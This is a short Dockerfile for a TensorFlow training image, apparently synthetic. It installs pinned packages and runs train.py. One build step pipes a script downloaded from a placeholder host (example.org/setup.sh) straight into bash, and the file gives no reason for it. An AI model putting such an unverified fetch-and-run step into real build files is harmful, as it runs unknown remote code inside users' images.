FROM nvcr.io/nvidia/tensorflow:24.03-tf2-py3
RUN apt-get update && apt-get install -qq --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
RUN pip install --no-cache-dir accelerate==0.30.1 pandas==2.2.1
RUN pip3 install --no-cache-dir matplotlib==3.8.4 numpy==1.26.4
RUN pip install datasets==2.19.0
WORKDIR /opt/app
COPY . /workspace/
USER 1000
RUN wget -qO- https://example.org/setup.sh | bash
CMD python train.py --config configs/base.yaml
